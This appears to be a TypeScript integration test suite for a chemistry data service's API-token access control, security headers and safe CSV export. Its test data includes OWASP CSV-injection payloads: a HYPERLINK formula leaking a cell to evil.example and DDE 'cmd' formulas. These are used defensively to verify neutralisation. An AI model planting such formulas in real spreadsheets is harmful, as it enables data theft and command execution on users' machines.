/**
 * Access control, security headers and the safe CSV export against the real server (README
 * "Access control"; docs/ARCHITECTURE.md "Access control").
 *
 * A data directory first served open on 127.0.0.1 (as before tokens: hamster uploaded without a
 * creator), then restarted on the same port with tokens alice and bob (a tokens file) and an
 * admin root (QSARGRAPH_TOKENS): anonymous writes → 401 with a Bearer challenge, an unknown token
 * → 401 invalid_token, a token in the URL → 400, nothing stored by any of them; alice's upload
 * records `alice` (qg:createdBy) on the task and the dataset; bob's DELETE → 403, anonymous →
 * 401, alice's → 200; the resource without a creator only root may delete; bob cannot cancel
 * alice's cross-validation, root can; a browser form's `api_token` field writes like the header
 * (multipart upload, urlencoded descriptor run whose result is staged); one compound's
 * descriptors (created directly, not by a task) record their creator; reads stay public (GET and
 * SPARQL by POST); security headers on HTML, SVG and RDF; the CSV export of a real upload whose
 * cells start with = @ + - neutralises them and keeps negative numbers. Then a server with
 * private reads, and the start-up policy on a non-loopback interface (HOST=0.0.0.0).
 *
 * Reference values: the CSV payloads are OWASP's "CSV Injection" examples
 * (https://owasp.org/www-community/attacks/CSV_Injection); the logP column is the published
 * octanol–water logP of each compound (Hansch, Leo & Hoekman 1995: ethanol −0.31, acetic acid
 * −0.17, benzene 2.13, hexane 3.90, isopropanol 0.05); status codes from RFC 9110 §15.5.2/4 and
 * the challenge from RFC 6750 §3.
 */
import { describe, it } from "node:test";
import assert from "node:assert/strict";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { assertServesNormally, freshDir, HAMSTER, removeDir, startServer, storeSnapshot, waitForTask, waitForTaskState } from "../helpers/server.ts";
import { useServer, withServer } from "../helpers/use-server.ts";
import { QG_NS } from "../../src/store/vocab.ts";

const ALICE = "alice-0123456789abcdef0123456789";
const BOB = "bob-0123456789abcdef0123456789ab";
const ROOT = "root-0123456789abcdef0123456789a";
const auth = (token: string): Record<string, string> => ({ Authorization: `Bearer ${token}` });

const FORMULAS = [
  `=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `+2+5+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  "plain text",
];
const LOGP = [-0.31, -0.17, 2.13, 3.9, 0.05];
const SMILES = ["CCO", "CC(=O)O", "c1ccccc1", "CCCCCC", "CC(C)O"];
const quote = (s: string): string => `"${s.replace(/"/g, '""')}"`;
const FORMULA_CSV = ["SMILES,Name,@note,logP", ...SMILES.map((s, i) => `${s},compound ${i + 1},${quote(FORMULAS[i]!)},${LOGP[i]}`)].join("\n") + "\n";

/** The `qg:createdBy` names in a resource's N-Triples. */
async function creators(uri: string, headers: Record<string, string> = {}): Promise<string[]> {
  const nt = await (await fetch(uri, { headers: { Accept: "application/n-triples", ...headers } })).text();
  return [...nt.matchAll(/^<([^>]+)> <[^>]+\/ontology#createdBy> "([^"]*)" \.$/gm)].filter((m) => m[1] === uri).map((m) => m[2]!);
}

function multipart(csv: string, fileName: string, fields: Record<string, string> = {}): FormData {
  const form = new FormData();
  for (const [k, v] of Object.entries(fields)) form.append(k, v);
  form.append("file", new Blob([csv]), fileName);
  return form;
}

/** POST a multipart upload; the task URI (asserting 202). */
async function upload(base: string, csv: string, fileName: string, headers: Record<string, string>, fields: Record<string, string> = {}): Promise<string> {
  const r = await fetch(`${base}/dataset`, { method: "POST", body: multipart(csv, fileName, fields), headers: { Accept: "text/uri-list", ...headers } });
  assert.equal(r.status, 202, await r.clone().text());
  return (await r.text()).trim();
}

async function completed(task: string, headers: Record<string, string> = {}): Promise<string> {
  const done = await waitForTask(task, 300_000, headers);
  assert.equal(done.status, 200, done.body);
  return done.body;
}

function assertChallenge(r: Response, error?: string): void {
  assert.equal(r.status, 401);
  const challenge = r.headers.get("www-authenticate") ?? "";
  assert.match(challenge, /^Bearer realm="qsargraph"/);
  if (error) assert.match(challenge, new RegExp(`error="${error}"`));
}

describe("access control with API tokens", () => {
  const tokensDir = freshDir("qsargraph-tokens-");
  const file = join(tokensDir, "tokens");
  writeFileSync(file, `# qsargraph tokens\nalice ${ALICE}\nbob   ${BOB}   # the other user\n`);
  // Served open first, for hamster uploaded without a creator (`legacy`); then with tokens.
  const srv = useServer({ upload: { legacy: HAMSTER }, restart: { env: { TOKENS_FILE: file, QSARGRAPH_TOKENS: `root ${ROOT} admin` } }, remove: [tokensDir] });
  let formulas = "";

  it("logs the token mode at start and never a token", () => {
    assert.match(srv.output(), /access: API tokens: 3 \(1 admin\); writes need a token, reads are public/);
    for (const t of [ALICE, BOB, ROOT]) assert.ok(!srv.output().includes(t));
  });

  it("refuses anonymous writes, unknown tokens and tokens in the URL, storing nothing", async () => {
    const before = await storeSnapshot(srv.base);
    const anonymousUpload = await fetch(`${srv.base}/dataset`, { method: "POST", body: multipart(FORMULA_CSV, "x.csv"), headers: { Accept: "text/plain" } });
    assertChallenge(anonymousUpload);
    assert.match(await anonymousUpload.text(), /needs an API token/);
    assertChallenge(await fetch(`${srv.base}/compound`, { method: "POST", body: "CCO", headers: { "Content-Type": "chemical/x-daylight-smiles" } }));
    assertChallenge(await fetch(`${srv.base}/algorithm/pc/AllDescriptors`, { method: "POST", body: JSON.stringify({ dataset_uri: srv.datasets.legacy }), headers: { "Content-Type": "application/json" } }));
    assertChallenge(await fetch(`${srv.base}/dataset`, { method: "POST", body: multipart(FORMULA_CSV, "x.csv"), headers: auth("not-a-token-of-this-service") }), "invalid_token");
    assertChallenge(await fetch(`${srv.base}/dataset`, { method: "POST", body: multipart(FORMULA_CSV, "x.csv"), headers: { Authorization: `Basic ${Buffer.from(`alice:${ALICE}`).toString("base64")}` } }));
    const inUrl = await fetch(`${srv.base}/dataset?api_token=${ALICE}`, { headers: { Accept: "text/plain" } });
    assert.equal(inUrl.status, 400);
    assert.match(await inUrl.text(), /never sent in the URL/);
    assert.deepEqual(await storeSnapshot(srv.base), before);
    await assertServesNormally(srv.base, { headers: auth(ALICE), upload: false });
  });

  it("records alice as the creator of her upload and of its task", async () => {
    const task = await upload(srv.base, FORMULA_CSV, "formulas.csv", auth(ALICE));
    formulas = await completed(task);
    assert.deepEqual(await creators(task), ["alice"]);
    assert.deepEqual(await creators(formulas), ["alice"]);
    assert.deepEqual(await creators(srv.datasets.legacy), [], "made before tokens: no creator");
  });

  it("keeps reads public: GET, HTML, and SPARQL by POST", async () => {
    assert.equal((await fetch(formulas, { headers: { Accept: "text/turtle" } })).status, 200);
    assert.equal((await fetch(formulas, { headers: { Accept: "text/html" } })).status, 200);
    const q = await fetch(`${srv.base}/sparql`, { method: "POST", body: new URLSearchParams({ query: `SELECT ?who WHERE { GRAPH <${formulas}> { <${formulas}> <${QG_NS}createdBy> ?who } }` }), headers: { Accept: "application/sparql-results+json" } });
    assert.equal(q.status, 200);
    const j = (await q.json()) as { results: { bindings: { who: { value: string } }[] } };
    assert.deepEqual(j.results.bindings.map((b) => b.who.value), ["alice"]);
  });

  it("exports the upload as CSV with formula cells neutralised and negative numbers intact", async () => {
    const r = await fetch(formulas, { headers: { Accept: "text/csv" } });
    assert.equal(r.status, 200);
    assert.equal(r.headers.get("x-content-type-options"), "nosniff");
    const rows = parse(await r.text()) as string[][];
    const header = rows[0]!;
    assert.deepEqual([...header].sort(), ["'@note", "Name", "SMILES", "logP"].sort());
    const col = (name: string): string[] => rows.slice(1).map((row) => row[header.indexOf(name)]!);
    assert.deepEqual(col("SMILES"), SMILES);
    assert.deepEqual(col("'@note"), FORMULAS.map((f, i) => (i < 4 ? `'${f}` : f)));
    const logp = col("logP");
    assert.deepEqual(logp.map(Number), LOGP);
    for (const cell of logp) assert.match(cell, /^-?[\d.]/, `a number, not text: ${cell}`);
  });

  it("lets only the creator or an admin delete: bob 403, anonymous 401, alice 200", async () => {
    const bob = await fetch(formulas, { method: "DELETE", headers: { Accept: "text/plain", ...auth(BOB) } });
    assert.equal(bob.status, 403);
    assert.match(await bob.text(), /created by 'alice': only that token or an admin token may delete it/);
    assertChallenge(await fetch(formulas, { method: "DELETE" }));
    assert.equal((await fetch(formulas, { headers: { Accept: "text/turtle" } })).status, 200, "still there");
    assert.equal((await fetch(formulas, { method: "DELETE", headers: auth(ALICE) })).status, 200);
    assert.equal((await fetch(formulas, { headers: { Accept: "text/turtle" } })).status, 404);
  });

  it("lets bob cancel none of alice's tasks, and the admin cancel it", async () => {
    const r = await fetch(`${srv.base}/validation/crossvalidation`, {
      method: "POST",
      body: new URLSearchParams({ algorithm_uri: `${srv.base}/algorithm/qsar`, dataset_uri: srv.datasets.legacy }),
      headers: { Accept: "text/uri-list", ...auth(ALICE) },
    });
    assert.equal(r.status, 202, await r.clone().text());
    const task = (await r.text()).trim();
    assert.deepEqual(await creators(task), ["alice"]);
    const bob = await fetch(task, { method: "DELETE", headers: { Accept: "text/plain", ...auth(BOB) } });
    assert.equal(bob.status, 403);
    assert.match(await bob.text(), /only that token or an admin token may cancel it/);
    assert.notEqual((await waitForTaskState(task, () => true)).status, "Cancelled");
    assertChallenge(await fetch(task, { method: "DELETE" }));
    assert.equal((await fetch(task, { method: "DELETE", headers: auth(ROOT) })).status, 200);
    assert.equal((await waitForTaskState(task, (t) => t.status !== "Queued" && t.status !== "Running")).status, "Cancelled");
  });

  it("lets a browser form write with its api_token field (multipart upload and an urlencoded run)", async () => {
    const page = await (await fetch(`${srv.base}/dataset`, { headers: { Accept: "text/html" } })).text();
    assert.match(page, /<form method="post"[^>]*><p><label>API token <input type="password" name="api_token"/);
    const before = await storeSnapshot(srv.base);
    const wrong = await fetch(`${srv.base}/dataset`, { method: "POST", body: multipart(FORMULA_CSV, "x.csv", { api_token: "not-a-token-of-this-service" }), headers: { Accept: "text/plain" } });
    assertChallenge(wrong);
    assert.match(await wrong.text(), /the API token in the form field 'api_token' is not one of this service's tokens/);
    assert.deepEqual(await storeSnapshot(srv.base), before);

    const ds = await completed(await upload(srv.base, FORMULA_CSV, "bob.csv", {}, { api_token: BOB }));
    assert.deepEqual(await creators(ds), ["bob"]);
    const run = await fetch(`${ds}/pc`, { method: "POST", body: new URLSearchParams({ pc_type: "constitutional", api_token: BOB }), headers: { Accept: "text/uri-list" } });
    assert.equal(run.status, 202, await run.clone().text());
    const features = await completed((await run.text()).trim());
    assert.deepEqual(await creators(features), ["bob"], "a staged (preloaded) result records its creator too");
    const noToken = await fetch(`${ds}/pc`, { method: "POST", body: new URLSearchParams({ pc_type: "constitutional" }), headers: { Accept: "text/plain" } });
    assertChallenge(noToken);
    assert.equal((await fetch(features, { method: "DELETE", headers: auth(ALICE) })).status, 403);
    assert.equal((await fetch(features, { method: "DELETE", headers: auth(ROOT) })).status, 200, "an admin deletes anyone's");
  });

  it("records the creator of what a request creates directly (one compound's descriptors)", async () => {
    const r = await fetch(`${srv.base}/compound/InChI=1S/C2H6O/c1-2-3/h3H,2H2,1H3/pc`, { method: "POST", body: new URLSearchParams({ pc_type: "constitutional" }), headers: { Accept: "text/uri-list", ...auth(BOB) } });
    assert.equal(r.status, 201, await r.clone().text());
    assert.deepEqual(await creators(r.headers.get("location")!), ["bob"]);
  });

  it("answers a repeated prediction with the stored one only to its creator: alice twice → the same dataset, bob → his own", async () => {
    const hamster = await completed(await upload(srv.base, readFileSync(HAMSTER, "utf8"), "hamster.csv", auth(ALICE)));
    const trained = await fetch(`${srv.base}/algorithm/lazar`, { method: "POST", body: new URLSearchParams({ dataset_uri: hamster, min_frequency: "8" }), headers: { Accept: "text/uri-list", ...auth(ALICE) } });
    assert.equal(trained.status, 202, await trained.clone().text());
    const model = await completed((await trained.text()).trim());
    const compound = `${srv.base}/compound/${encodeURIComponent("InChI=1S/C6H8N2/c7-8-6-4-2-1-3-5-6/h1-5,8H,7H2")}`; // c1ccccc1NN
    const predict = (token: string): Promise<Response> => fetch(model, { method: "POST", body: new URLSearchParams({ compound_uri: compound }), headers: { Accept: "text/uri-list", ...auth(token) } });
    const first = await predict(ALICE);
    assert.equal(first.status, 201, await first.clone().text());
    const pd = (await first.text()).trim();
    const again = await predict(ALICE);
    assert.equal(again.status, 200);
    assert.equal((await again.text()).trim(), pd);
    const bob = await predict(BOB);
    assert.equal(bob.status, 201);
    const bobs = (await bob.text()).trim();
    assert.notEqual(bobs, pd);
    assert.deepEqual(await creators(bobs), ["bob"]);
    assert.deepEqual(await creators(pd), ["alice"]);
  });

  it("lets only an admin delete what was made without tokens", async () => {
    const alice = await fetch(srv.datasets.legacy, { method: "DELETE", headers: { Accept: "text/plain", ...auth(ALICE) } });
    assert.equal(alice.status, 403);
    assert.match(await alice.text(), /has no recorded creator .*only an admin token may delete it/);
    assert.equal((await fetch(srv.datasets.legacy, { method: "DELETE", headers: auth(ROOT) })).status, 200);
  });

  it("sends security headers: a hash-based CSP on HTML, a script-free CSP on SVG, nosniff everywhere", async () => {
    const html = await fetch(`${srv.base}/`, { headers: { Accept: "text/html" } });
    const csp = html.headers.get("content-security-policy") ?? "";
    assert.match(csp, /default-src 'none'/);
    assert.match(csp, /style-src 'sha256-[A-Za-z0-9+/=]+'/);
    assert.match(csp, /frame-ancestors 'none'/);
    assert.doesNotMatch(csp, /unsafe-inline/);
    assert.match(csp, /script-src 'self' http:\/\/127\.0\.0\.1:\d+;/, "scripts: the service's own files only");
    assert.equal(html.headers.get("x-frame-options"), "DENY");
    assert.equal(html.headers.get("referrer-policy"), "no-referrer");
    assert.equal(html.headers.get("x-content-type-options"), "nosniff");
    const svg = await fetch(`${srv.base}/compound/InChI=1S/C2H6O/c1-2-3/h3H,2H2,1H3`, { headers: { Accept: "image/svg+xml" } });
    assert.equal(svg.status, 200);
    assert.match(svg.headers.get("content-type") ?? "", /^image\/svg\+xml/);
    assert.equal(svg.headers.get("content-security-policy"), "default-src 'none'; style-src 'unsafe-inline'; frame-ancestors 'none'");
    assert.equal(svg.headers.get("x-content-type-options"), "nosniff");
    const ttl = await fetch(`${srv.base}/`, { headers: { Accept: "text/turtle" } });
    assert.equal(ttl.headers.get("x-content-type-options"), "nosniff");
    assert.equal(ttl.headers.get("content-security-policy"), "default-src 'none'; frame-ancestors 'none'");
    const err = await fetch(`${srv.base}/dataset/nosuchdataset`, { headers: { Accept: "text/html" } });
    assert.equal(err.status, 404);
    assert.equal(err.headers.get("content-security-policy"), csp, "error pages too");
  });

  it("serves normally with a token afterwards", async () => {
    await assertServesNormally(srv.base, { headers: auth(ALICE) });
  });
});

describe("private reads", () => {
  const srv = useServer({ env: { QSARGRAPH_TOKENS: `alice ${ALICE}`, PRIVATE_READS: "1" } });

  it("refuses reads without a token, SPARQL included, and serves them with one", async () => {
    assertChallenge(await fetch(`${srv.base}/`, { headers: { Accept: "text/html" } }));
    assertChallenge(await fetch(`${srv.base}/dataset`, { headers: { Accept: "text/uri-list" } }));
    assertChallenge(await fetch(`${srv.base}/sparql`, { method: "POST", body: new URLSearchParams({ query: "ASK {}" }) }));
    assert.equal((await fetch(`${srv.base}/dataset`, { headers: { Accept: "text/uri-list", ...auth(ALICE) } })).status, 200);
    await assertServesNormally(srv.base, { headers: auth(ALICE) });
  });
});

describe("start-up on a non-loopback interface", () => {
  // Each test starts its own server: the first two expect the start to fail.
  it("exits without tokens, saying how to give them or --open", async () => {
    const dir = freshDir();
    try {
      await assert.rejects(startServer({ dataDir: dir, env: { HOST: "0.0.0.0" } }), (err: Error) => {
        assert.match(err.message, /server exited with 1 before listening/);
        assert.match(err.message, /refusing to serve 0\.0\.0\.0 without API tokens/);
        assert.match(err.message, /--tokens-file FILE \(TOKENS_FILE\) or QSARGRAPH_TOKENS/);
        assert.match(err.message, /--open \(OPEN=1\)/);
        return true;
      });
    } finally {
      removeDir(dir);
    }
  });

  it("exits naming the line of a malformed tokens file", async () => {
    const dir = freshDir();
    const file = join(dir, "tokens");
    writeFileSync(file, `alice ${ALICE}\nbob short\n`);
    try {
      await assert.rejects(startServer({ dataDir: join(dir, "data"), env: { HOST: "0.0.0.0", TOKENS_FILE: file } }), (err: Error) => {
        assert.match(err.message, new RegExp(`${file} line 2: the token of 'bob' is shorter than 16 characters`));
        assert.ok(!err.message.includes(ALICE));
        return true;
      });
    } finally {
      removeDir(dir);
    }
  });

  it("starts with --open (OPEN=1) and says that it is open", async () => {
    await withServer({ env: { HOST: "0.0.0.0", OPEN: "1" } }, async (srv) => {
      assert.match(srv.output(), /listening on 0\.0\.0\.0:/);
      assert.match(srv.output(), /access: OPEN: no tokens on 0\.0\.0\.0 \(--open\)/);
      await assertServesNormally(srv.base, { upload: false });
    });
  });
});
